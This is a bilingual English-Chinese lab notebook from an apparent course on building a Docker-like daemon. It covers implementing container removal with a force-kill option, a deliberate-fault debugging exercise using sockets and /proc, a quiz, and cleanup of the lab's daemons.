# %% [markdown] lang="en" id="remove-step"
# **`remove`** is for `docker rm`. A container that runs is refused with 409 and a `message`, unless the query has `force` (`1` or
# `true`): then `container.kill(9)` ends it, and `container.wait()` sees to it that it has. Then it is forgotten:
# `del daemon.containers[container.id]`, and 204.

# %% [markdown] lang="zh" of="f7595939"
# **`remove`** 是给 `docker rm` 用的。正在运行的容器要拒绝：409 和一条 `message`；除非查询串里有 `force`（`1` 或 `true`）：
# 这时用 `container.kill(9)` 结束它，用 `container.wait()` 确认。然后忘掉它：`del daemon.containers[container.id]`，应答 204。

# %% tags=["exercise"] zh="删除容器；正在运行的要拒绝，`?force=1` 则杀死它（8 行）。" of="ed2316f9"
@lab.step
def remove(daemon, request, id):
    """Remove a container; one that runs is refused, or killed by `?force=1` (8 lines)."""
    ...

# %% tags=["check"]
lab.check(remove)

# %%
docker = lab.docker(mini)
docker("run -d --name pie busybox sleep 1000")
docker("ps --format '{{.Names}} {{.Image}} {{.State}}'")
docker("rm pie")
docker("rm -f pie")

# %% [markdown] lang="en" id="fault"
# ## Further: find the fault
#
# This breaks a daemon on purpose, and says what its users complain of. Find out why: with `fault.docker("…")`, in a terminal, with
# what you know of sockets and processes (`ls -l`, `ss -xlp`, `/proc`), and mend it. `fault.daemon` can be told to `.start()` and
# `.stop()`. The next numbers break something else. (labcore's daemon stands in `ss` as `/proc/self/fd/…`: it gives its socket the name
# when it listens.)

# %% [markdown] lang="zh" of="9912576a"
# ## 进阶：找出故障
#
# 下面故意弄坏一个守护进程，并说出用户抱怨什么。请找出原因，然后修好：可以用 `fault.docker("…")`，也可以在终端里，
# 用你对套接字和进程的了解（`ls -l`、`ss -xlp`、`/proc`）。`fault.daemon` 可以 `.start()` 和 `.stop()`。换成后面的数字，坏的就是别的地方。（在 `ss` 里，labcore 的守护进程显示为 `/proc/self/fd/…`：它开始监听后才给套接字起名字。）

# %%
fault = lab.fault(5, seed=1)
fault

# %% [markdown] lang="en" id="mended"
# The check looks from outside, at the daemon's answers and at the kernel. Run it as often as you like; `print(fault.cause)` tells those
# who give up.

# %% [markdown] lang="zh" of="177b535a"
# 检查从外面看守护进程的应答和内核，想运行几次都行；放弃的人可以看 `print(fault.cause)`。

# %%
fault.check()

# %% [markdown] lang="en" id="questions"
# ## Five questions
#
# Answer without scrolling up. The button draws others.

# %% [markdown] lang="zh" of="25dc3afd"
# ## 五道题
#
# 不要往上翻，直接作答。按钮可以换一组题。

# %%
lab.quiz()

# %% [markdown] lang="en" id="reset"
# ## Nothing is left
#
# Two daemons, their containers, a bridge, a relay. They end with the notebook; here by hand.

# %% [markdown] lang="zh" of="222e981a"
# ## 什么都没留下
#
# 两个守护进程、它们的容器、一个网桥、一个转发的套接字。笔记本结束时它们也会结束；这里我们亲手来。

# %%
fault.restore(), ear.close(), mini.close(), daemon.close()
lab.reset()

# %% [markdown] lang="en" id="next"
# Your `my_runtime.py` has gained `route`, `ping`, `create`, `start` and `wait`: it is a daemon. What it does not do that labcore's does:
# keep its containers on disk, survive its own end, tell a client's version from another, take options (`-v`, `-p`, `-m`), stream
# logs and events, speak TLS. In lesson 6 it gets a missing image, and shows what a container says.

# %% [markdown] lang="zh" of="b45d186c"
# 你的 `my_runtime.py` 多了 `route`、`ping`、`create`、`start` 和 `wait`：它成了守护进程。labcore 的会做而它还不会的：
# 把容器记到磁盘上，自己结束了容器照样活着，区分客户端的版本，接受选项（`-v`、`-p`、`-m`），持续输出日志和事件，使用 TLS。
# 第 6 课，它会碰到一个本地没有的镜像，并且能显示容器说的话。
